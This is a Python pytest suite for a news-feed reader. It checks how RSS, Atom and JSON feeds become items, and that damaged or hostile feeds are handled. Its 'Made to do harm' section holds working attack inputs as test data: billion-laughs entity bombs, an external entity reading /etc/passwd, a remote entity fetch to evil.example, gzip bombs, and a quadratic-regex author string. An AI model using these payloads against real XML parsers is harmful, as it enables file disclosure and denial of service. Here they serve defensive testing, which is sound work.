"""Feeds of each family become items; damaged ones are read as far as they go; those made to do harm are refused."""

from __future__ import annotations

import gzip
import json
import os
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest

from index import feeds as feeds_module
from index.errors import LinkRefused
from index.feed_process import parsed
from index.feeds import FeedKind, discover_feeds, looks_like_feed, read_feed
from index.links import item_draft
from index.nouns import Draft
from index.xml_text import root_and_body, xml_text

URL = "https://news.example/feeds/all.xml"
LONG = "<p>" + "The mill burned all night, and nobody knew why it did. " * 12 + "</p>"
RSS = f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>The &amp; Post</title><link>https://news.example/</link>
<item><title>Mill &lt;b&gt;burns&lt;/b&gt; &#8211; again</title><link>/a/mill?x=1&amp;y=2#top</link>
<guid isPermaLink="false">7</guid>
<dc:creator>Ada Bee</dc:creator><pubDate>Tue, 03 Mar 2026 10:00:00 +0100</pubDate>
<description>It burns.</description><content:encoded><![CDATA[{LONG}]]></content:encoded></item>
<item><title>Beginning only</title><link>https://else.example/b</link>
<description>{"word " * 600} Read more</description></item>
<item><title>Whole in its description</title><description>{"word " * 600}.</description></item>
<item><link>javascript:alert(1)</link><title>No link</title></item>
<item></item>
<item><title>Again</title><guid isPermaLink="false">7</guid></item>
</channel></rss>"""
ATOM = f"""<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">A &amp;lt; B</title>
<entry><id>tag:a,1</id><title>One</title><link rel="enclosure" href="https://a.example/x.mp3"/><link href="https://a.example/1"/>
<published>2026-03-03T10:00:00Z</published><updated>2026-03-04T11:30:00+02:00</updated><author><name>Bo</name></author>
<content type="html">{LONG.replace("<", "&lt;")}</content></entry>
<entry><id>tag:a,2</id><title>Two</title><updated>2026-03-04T00:00:00Z</updated><summary>short</summary></entry></feed>"""


def reason(data: bytes | str) -> str:
    with pytest.raises(LinkRefused) as caught:
        read_feed(data.encode() if isinstance(data, str) else data, URL)
    assert caught.value.source == URL
    return caught.value.reason


def test_rss_becomes_items() -> None:
    feed = read_feed(RSS.encode(), URL)
    mill, beginning, whole, unlinked = feed.items
    assert (feed.title, feed.kind) == ("The & Post", FeedKind.RSS)
    assert (mill.id, mill.title, mill.author) == ("7", "Mill burns – again", "Ada Bee")
    assert mill.link == "https://news.example/a/mill?x=1&y=2"
    assert (mill.published, mill.modified) == (datetime(2026, 3, 3, 9, tzinfo=UTC), None)
    assert (mill.html, mill.full) == (LONG, True)
    assert (beginning.id, beginning.full) == ("https://else.example/b", False)
    assert (whole.id, whole.link, whole.full) == ("Whole in its description", None, True)
    assert (unlinked.link, unlinked.title, unlinked.published) == (None, "No link", None)


def test_atom_becomes_items() -> None:
    one, two = (feed := read_feed(ATOM.encode(), URL)).items
    assert (feed.title, feed.kind) == ("A < B", FeedKind.ATOM)
    assert (one.id, one.link, one.author, one.full) == ("tag:a,1", "https://a.example/1", "Bo", True)
    assert one.published == datetime(2026, 3, 3, 10, tzinfo=UTC)
    assert one.modified == datetime(2026, 3, 4, 9, 30, tzinfo=UTC)
    assert (two.link, two.html, two.full) == (None, "short", False)
    assert two.published == datetime(2026, 3, 4, tzinfo=UTC)


def test_json_feed_becomes_items() -> None:
    rows = [
        {
            "id": 1,
            "url": "/1",
            "title": "One",
            "content_html": LONG,
            "authors": [{"name": "Ada"}, {"name": "Bo"}, 7],
        },
        {
            "id": "2",
            "external_url": "https://b.example/2",
            "content_text": "a < b\nnext",
            "date_published": "2026-03-03",
        },
        {"url": "ftp://b.example/3", "summary": "s", "date_published": "soon", "author": {"name": "Old"}},
        {"id": True, "title": ["x"]},
        "no item",
    ]
    data = json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": rows}).encode()
    feed = read_feed(data, URL)
    one, two, three, four = feed.items
    assert (feed.title, feed.kind, looks_like_feed(data)) == ("J", FeedKind.JSON, True)
    assert (one.id, one.link, one.author, one.full) == ("1", "https://news.example/1", "Ada, Bo", True)
    assert (two.link, two.html, two.published) == (
        "https://b.example/2",
        "a &lt; b<br>next",
        datetime(2026, 3, 3, tzinfo=UTC),
    )
    assert (three.id, three.link, three.author, three.published) == ("s", None, "Old", None)
    assert (four.id, four.title) == ("True", None)


@pytest.mark.parametrize(
    ("data", "titles"),
    [
        (RSS.replace("&amp;y", "&y").replace("</channel></rss>", ""), 4),
        (RSS.replace("The &amp; Post", "The & Post &nbsp; &copy; <br>"), 4),
        (RSS.replace("again", "ag\x00\x08\x1bain\x0c"), 4),
        ("\n\n  " + RSS, 4),
        (
            "<!-- <rss> --><!DOCTYPE rss PUBLIC '-//x' 'http://evil.example/x.dtd'>" + RSS.partition("?>")[2],
            4,
        ),
        (RSS.replace('version="2.0"', ""), 4),
        (RSS.encode("utf-16"), 4),
        (RSS.replace("UTF-8", "windows-1251").encode("cp1251"), 4),
        (RSS.replace("UTF-8", "utf-7").encode(), 4),
        (RSS.replace("UTF-8", "no-such-thing").encode(), 4),
        (b"\xef\xbb\xbf" + RSS.encode(), 4),
        (RSS.encode().replace(b"Ada", b"\xff\xfe\x80"), 4),
        (gzip.compress(RSS.encode(), mtime=0), 4),
    ],
)
def test_damaged_feeds_are_read(data: bytes | str, titles: int) -> None:
    feed = read_feed(data.encode() if isinstance(data, str) else data, URL)
    assert len(feed.items) == titles
    assert "Mill burns – again" in (feed.items[0].title, str(feed.items[0].title).replace("?", "–"))


@pytest.mark.parametrize(
    "data",
    [
        *(
            "",
            " \n",
            "plain words",
            "<",
            "<html><body>x</body></html>",
            "<!DOCTYPE html><p>x",
            "<opml></opml>",
            "{}",
        ),
        *("[]", '{"version": "2"}', '{"version": ["https://jsonfeed.example/version/1"]}'),
    ],
)
def test_what_is_no_feed_is_refused(data: str) -> None:
    assert reason(data) == "not_feed"
    assert not looks_like_feed(data.encode())


def test_half_a_letter_in_an_id_is_left_out() -> None:
    item = {"id": "a\ud800b", "title": "One\ud800", "content_text": LONG}
    feed = read_feed(
        json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [item]}).encode(), URL
    )
    assert [(one.id, one.title) for one in feed.items] == [("ab", "One")]
    assert isinstance(item_draft(feed.items[0], feed, URL), Draft)


def test_json_that_is_cut_off_or_too_deep_is_refused() -> None:
    assert reason('{"version": "https://jsonfeed.org/version/1", "items": [') == "feed_unreadable"
    assert reason('{"a":' * 100_000) == "feed_unreadable"


def test_a_page_that_names_its_feed_is_refused_with_it() -> None:
    html = b"""<html><head><base href="/deep/"><link rel="stylesheet" href="a.css">
    <link rel="Alternate" type="application/atom+xml" href="feed.atom">
    <link rel=alternate type="application/rss+xml" href="//b.example/rss">
    <link rel=alternate type="application/rss+xml" href="file:///etc/passwd">
    <link rel=alternate hreflang=de href="/de"></head>
    <body>words</body></html>"""
    assert discover_feeds(html, URL) == ("https://news.example/deep/feed.atom", "https://b.example/rss")
    with pytest.raises(LinkRefused) as caught:
        read_feed(html, URL)
    assert (caught.value.reason, caught.value.detail) == ("not_feed", "https://news.example/deep/feed.atom")


# Made to do harm

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 50}">' for n in range(12))
BOMBS = [
    f"<?xml version='1.0'?><!DOCTYPE rss [{LAUGHS}]><rss version='2.0'><channel><title>&l11;</title></channel></rss>",
    f"<!-- <rss> --><?pi <rss ?>\n<!doctype rss [{LAUGHS}]><rss/>",
    "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><rss><channel><title>&x;</title></channel></rss>",
    "<!DOCTYPE rss [<!ENTITY % x SYSTEM 'http://evil.example/'> %x;]><rss/>",
    f"<!DOCTYPE rss SYSTEM 'x' [<!ENTITY a '{'a' * 100_000}'>]><rss>{'&a;' * 100_000}</rss>",
    "<!DOCTYPE rss [" + "<!ELEMENT" * 1_000,
    f"<?xml version='1.0' encoding='utf-7'?><!DOCTYPE rss [{LAUGHS}]><rss/>",
]


@pytest.mark.parametrize("bomb", BOMBS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32"])
def test_entities_are_refused_before_anything_reads_them(
    bomb: str, encoding: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(subprocess, "run", lambda *args, **kwargs: pytest.fail("was read"))
    data = (bomb if bomb.startswith("<?") else "<?xml version='1.0'?>" + bomb).encode(encoding)
    assert reason(data) == "feed_entities"


def test_entities_that_come_too_late_to_count_stay_as_they_are() -> None:
    feed = read_feed(
        f"<rss version='2.0'><channel><!DOCTYPE x [{LAUGHS}]><item><title>&l9;</title></item></channel></rss>".encode(),
        URL,
    )
    assert len(str(feed.items)) < 5_000


@pytest.mark.parametrize(
    "data",
    [
        gzip.compress(b"<rss>" + b" " * 50_000_000),
        b"<rss>" + b" " * 11_000_000,
        gzip.compress(b"\0" * 90_000_000, 9),
    ],
    ids=["packed", "bare", "zeros"],
)
def test_feeds_beyond_the_limit_are_refused(data: bytes) -> None:
    assert reason(data) == "too_big"


def test_a_gzip_file_that_is_cut_off_is_refused() -> None:
    assert reason(gzip.compress(RSS.encode())[:-20]) == "bad_answer"


@pytest.mark.parametrize(
    "body",
    ["<a>" * 9_000, "<item>" * 5_000, "<" * 50_000, "&" * 50_000, "<a b='" * 9_000, "]]>" * 9_000],
    ids=["deep", "items", "signs", "ampersands", "attributes", "ends"],
)
def test_hostile_markup_costs_no_more_than_its_items(body: str) -> None:
    feed = read_feed(f"<rss version='2.0'><channel><item><title>x</title></item>{body}".encode(), URL)
    assert [item.title for item in feed.items][:1] == ["x"]
    assert len(feed.items) <= 2_000


def test_a_feed_that_keeps_its_reader_busy_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    """feedparser looks for an address in an author's name by an expression that takes the square of its length."""
    monkeypatch.setattr(feeds_module, "PARSE_S", 3.0)
    author = "a." * 1_000_000
    assert reason(
        f"<rss version='2.0'><channel><item><title>x</title><author>{author}</author></item></channel></rss>"
    ) == ("feed_unreadable")


def test_the_process_that_reads_is_told_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DISCORD_TOKEN", "not for feeds")
    monkeypatch.setenv("VERBATIM_DATA", "/nowhere")
    given: list[dict[str, str]] = []
    run = subprocess.run

    def noting(*args, **kwargs):
        given.append(kwargs["env"])
        return run(*args, **kwargs)

    monkeypatch.setattr(subprocess, "run", noting)
    assert read_feed(RSS.encode(), URL).items
    assert set(given[0]) <= {"PATH", "PYTHONPATH", "PYTHONHOME", "SYSTEMROOT", "VIRTUAL_ENV", "HOME"}
    assert "not for feeds" not in given[0].values()


def test_a_feed_that_is_the_name_of_a_file_opens_none(tmp_path: Path) -> None:
    path = tmp_path / "secret.xml"
    path.write_text(RSS, encoding="utf-8")
    assert parsed(os.fsencode(path))["entries"] == []


def test_an_id_that_is_no_link_leads_nowhere() -> None:
    items = "<item><guid>1</guid><title>a</title></item><item><guid>https://n.example/2</guid><title>b</title></item>"
    one, two = read_feed(f"<rss version='2.0'><channel>{items}</channel></rss>".encode(), URL).items
    assert (one.id, one.link, two.link) == ("1", None, "https://n.example/2")


def test_links_start_at_the_bases_that_the_feed_names() -> None:
    feed = """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://other.example/base/"><title>T</title>
        <entry><id>urn:1</id><title>a</title><link href="one.html"/></entry>
        <entry xml:base="deep/"><id>urn:2</id><title>b</title><link href="two.html"/></entry></feed>"""
    assert [item.link for item in read_feed(feed.encode(), URL).items] == [
        "https://other.example/base/one.html",
        "https://other.example/base/deep/two.html",
    ]


def test_a_feeds_author_wrote_what_has_no_other() -> None:
    items = [{"id": "1", "title": "a"}, {"id": "2", "title": "b", "authors": [{"name": "Bo"}]}]
    version = "https://jsonfeed.org/version/1.1"
    told = {"version": version, "title": "T", "authors": [{"name": "Ada"}], "items": items}
    assert [item.author for item in read_feed(json.dumps(told).encode(), URL).items] == ["Ada", "Bo"]
    atom = """<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><author><name>Ada</name></author>
        <entry><id>urn:1</id><title>a</title></entry>
        <entry><id>urn:2</id><title>b</title><author><name>Bo</name></author></entry></feed>"""
    assert [item.author for item in read_feed(atom.encode(), URL).items] == ["Ada", "Bo"]


def test_plain_text_stays_text() -> None:
    content = "<content type='text'>1 &lt; 2\n&amp;c</content>"
    body = f"<feed xmlns='http://www.w3.org/2005/Atom'><entry><id>1</id>{content}</entry></feed>"
    assert read_feed(body.encode(), URL).items[0].html == "1 &lt; 2<br>&amp;c"


@pytest.mark.parametrize(
    ("text", "root"),
    [
        ("<a:Feed x='1'>", "feed"),
        ("<?xml version='1.0'?> <!-- <rss --> <rss>", "rss"),
        ("<!DOCTYPE rss>\n<RSS>", "rss"),
        ("words <rss>", "rss"),
        ("<!-- never closed", ""),
        ("<?never closed", ""),
        ("<!DOCTYPE never closed", ""),
        ("<!--" * 200_000, ""),
        ("<!---->" * 200_000 + "<rss>", "rss"),
    ],
)
def test_the_root_is_found_behind_what_stands_before_it(text: str, root: str) -> None:
    assert root_and_body(text, URL)[0] == root


def test_text_is_decoded_as_what_it_is() -> None:
    assert xml_text(b"<?xml version='1.0' encoding='iso-8859-15'?>\xa4", charset=None).endswith("€")
    assert xml_text(b"<?xml version='1.0' encoding='iso-8859-15'?>\xc3\xa9", charset="utf-8").endswith("é")
    assert xml_text(b"<?xml version='1.0' encoding='iso-8859-1'?>\xc3\xa9", charset=None).endswith("é")
    assert xml_text(b"<?xml version='1.0' encoding='iso-8859-1'?>\xe9", charset=None).endswith("é")
    assert xml_text(b"\x93quoted\x94", charset="utf-8") == "“quoted”"
